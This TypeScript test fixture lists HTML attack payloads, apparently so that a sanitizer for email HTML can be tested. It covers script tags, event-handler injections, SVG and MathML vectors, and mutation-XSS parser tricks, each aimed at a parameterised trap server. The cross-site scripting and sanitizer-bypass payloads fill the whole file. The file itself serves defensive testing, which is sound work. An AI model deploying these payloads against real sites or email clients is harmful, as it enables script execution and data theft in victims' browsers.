/** Targets of a hostile email. */
export interface AttackUrls {
  /** URL of the trap server, which no email may reach. */
  readonly trap: string
  /** URL of the server whose pictures load on request. */
  readonly pictures: string
  /** JavaScript that leaves a trace. It contains no double quotes. */
  readonly run: string
}

/** Attack: name and HTML. An `inert` attack needs no protection in some versions of Chromium. */
export type AttackRow = readonly [
  name: string,
  html: (urls: AttackUrls) => string,
  note?: 'inert' | undefined,
]

/** Attacks that run scripts. */
export const SCRIPTS: readonly AttackRow[] = [
  ['script', ({ run }) => `<script>${run}</script>`],
  ['script src', ({ trap }) => `<script src="${trap}/a.js"></script>`],
  ['script type=module', ({ trap }) => `<script type="module" src="${trap}/a.js"></script>`],
  ['script nomodule', ({ run }) => `<script nomodule>${run}</script>`, 'inert'],
  [
    'importmap',
    ({ trap }) =>
      `<script type="importmap">{"imports":{"a":"${trap}/a.js"}}</script><script type="module">import 'a'</script>`,
  ],
  ['img onerror', ({ run }) => `<img src="x:" onerror="${run}">`],
  [
    'img onload',
    ({ run }) =>
      `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs=" onload="${run}">`,
  ],
  ['body onload', ({ run }) => `<body onload="${run}">x</body>`],
  ['body onpageshow', ({ run }) => `<body onpageshow="${run}">x</body>`],
  [
    'autofocus onfocus',
    ({ run }) => `<a href="#" autofocus onfocus="${run}">x</a><input autofocus onfocus="${run}">`,
  ],
  ['details ontoggle', ({ run }) => `<details open ontoggle="${run}"><summary>x</summary>y</details>`],
  [
    'animation handlers',
    ({ run }) => `<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart="${run}">x</p>`,
  ],
  [
    'transition handlers',
    ({ run }) =>
      `<style>p{transition:color 1ms;color:red}@starting-style{p{color:blue}}</style><p ontransitionend="${run}">x</p>`,
  ],
  [
    'scroll handlers',
    ({ run }) =>
      `<div style="height:10px;overflow:scroll" onscroll="${run}"><p id=s style="margin-top:99px" autofocus tabindex=0>x</p></div>`,
  ],
  [
    'media handlers',
    ({ run }) =>
      `<video onerror="${run}"><source onerror="${run}" src="data:,"></video><audio src="data:," onerror="${run}"></audio>`,
  ],
  ['marquee handlers', ({ run }) => `<marquee onstart="${run}">x</marquee>`, 'inert'],
  [
    'content-visibility handler',
    ({ run }) => `<p oncontentvisibilityautostatechange="${run}" style="content-visibility:auto">x</p>`,
  ],
  [
    'beforetoggle',
    ({ run }) => `<button popovertarget=x autofocus>x</button><p popover id=x onbeforetoggle="${run}">y</p>`,
    'inert',
  ],
  ['handler without spaces', ({ run }) => `<img/src="x:"/onerror="${run}">`],
  ['handler in upper case', ({ run }) => `<IMG SRC=x: ONERROR="${run}">`],
  ['javascript iframe', ({ run }) => `<iframe src="javascript:${run}"></iframe>`],
  ['srcdoc', ({ run }) => `<iframe srcdoc="<script>${run}</script>"></iframe>`],
  ['data iframe', ({ trap }) => `<iframe src="data:text/html,<script src=${trap}/a.js></script>"></iframe>`],
  ['object data', ({ trap }) => `<object data="data:text/html,<script src=${trap}/a.js></script>"></object>`],
  [
    'template shadow root',
    ({ run }) => `<div><template shadowrootmode="open"><img src="x:" onerror="${run}"></template></div>`,
  ],
  [
    'window.name and opener',
    ({ run }) => `<script>window.name='owned';if(opener)opener.location='about:blank';${run}</script>`,
  ],
  ['top navigation', ({ trap }) => `<script>top.location='${trap}/top.html'</script>`],
]

/** Attacks with SVG and MathML. */
export const FOREIGN: readonly AttackRow[] = [
  ['svg script', ({ run }) => `<svg><script>${run}</script></svg>`],
  ['svg script href', ({ trap }) => `<svg><script href="${trap}/a.js"></script></svg>`],
  ['svg onload', ({ run }) => `<svg onload="${run}"></svg>`],
  ['svg animate', ({ run }) => `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></animate></svg>`],
  [
    'svg set of a link',
    ({ run }) =>
      `<svg><a><set attributeName="href" to="javascript:${run}"></set><text y="20">x</text></a></svg>`,
    'inert',
  ],
  [
    'svg foreignObject',
    ({ run }) => `<svg><foreignObject><img src="x:" onerror="${run}"></foreignObject></svg>`,
  ],
  ['svg use', ({ trap }) => `<svg><use href="${trap}/a.svg#a"></use></svg>`, 'inert'],
  ['svg image', ({ trap }) => `<svg><image href="${trap}/a.gif"></image></svg>`],
  [
    'svg feImage',
    ({ trap }) =>
      `<svg width="9" height="9"><filter id="f"><feImage href="${trap}/a.gif"></feImage></filter><rect width="9" height="9" filter="url(#f)"></rect></svg>`,
  ],
  ['svg style', ({ trap }) => `<svg><style>@import "${trap}/a.css";</style></svg>`],
  [
    'svg data picture',
    ({ trap }) =>
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${trap}/a.gif'/><script href='${trap}/a.js'/></svg>">`,
    'inert',
  ],
  [
    'math link',
    ({ run }) =>
      `<math href="javascript:${run}">x</math><math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
    'inert',
  ],
  ['xml stylesheet', ({ trap }) => `<?xml-stylesheet href="${trap}/a.css"?>x`, 'inert'],
]

/** Attacks that sanitizers parse differently than browsers. */
export const MUTATIONS: readonly AttackRow[] = [
  [
    'noscript and title',
    ({ run }) =>
      `<noscript><p title="</noscript><img src=x: onerror='${run.replaceAll("'", '`')}'>"></noscript>`,
  ],
  [
    'comment in svg style',
    ({ run }) => `<svg></p><style><!--</style><img src="x:" onerror="${run}">--></style></svg>`,
  ],
  [
    'math, table, mglyph',
    ({ run }) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=1&gt;"><img src="x:" onerror="${run}">`,
  ],
  [
    'form in form',
    ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${run}">`,
    'inert',
  ],
  [
    'annotation-xml',
    ({ run }) =>
      `<math><annotation-xml encoding="text/html"><style><img src="x:" onerror="1"></style><img src="x:" onerror="${run}"></annotation-xml></math>`,
  ],
  [
    'select and xmp',
    ({ run }) =>
      `<select><xmp><script>${run}</script></xmp></select><xmp><p title="</xmp><img src=x: onerror='${run.replaceAll("'", '`')}'>"></xmp>`,
  ],
  [
    'textarea and title',
    ({ run }) =>
      `<title><p title="</title><img src=x: onerror='${run.replaceAll("'", '`')}'>"></title><textarea></textarea><img src="x:" onerror="${run}">`,
  ],
  ['plaintext', ({ run }) => `<img src="x:" onerror="${run}"><plaintext><b>`],
  ['unclosed comment', ({ run }) => `<!--><img src="x:" onerror="${run}">--!><script>${run}</script>`],
  [
    'conditional comment',
    ({ run }) =>
      `<![if !mso]><img src="x:" onerror="${run}"><![endif]><!--[if mso]><script>1</script><![endif]-->`,
  ],
  [
    'CDATA',
    ({ run }) =>
      `<svg><![CDATA[><img src="x:" onerror="1">]]></svg><![CDATA[><img src="x:" onerror="${run}">]]>`,
  ],
  [
    'null bytes',
    ({ run }) =>
      `<im\0g src="x:" onerror="1"><img src="x:" one\0rror="1"><\0script>1</script><img \0 src="x:" onerror="${run}">`,
  ],
  [
    'backtick and broken quotes',
    ({ run }) => `<img src="x:" alt="\`" title=\`><p title="\`onerror=1"><img """ src="x:" onerror="${run}">`,
  ],
  ['UTF-7', () => '<meta charset="utf-7">+ADw-script+AD4-top.__owned=1+ADw-/script+AD4-', 'inert'],
  [
    'entities in a handler',
    ({ run }) =>
      `<img src="x:" onerror="${[...run].map(character => `&#${character.charCodeAt(0)};`).join('')}">`,
  ],
  [
    'nested tables',
    ({ run }) => `<table><td><table><svg><td><style></table><img src="x:" onerror="${run}"></style></svg>`,
  ],
  [
    'deep nesting',
    ({ run }) =>
      `${'<div>'.repeat(600)}<svg><style><a title="</style><img src=x: onerror='${run.replaceAll("'", '`')}'>">`,
    'inert',
  ],
]
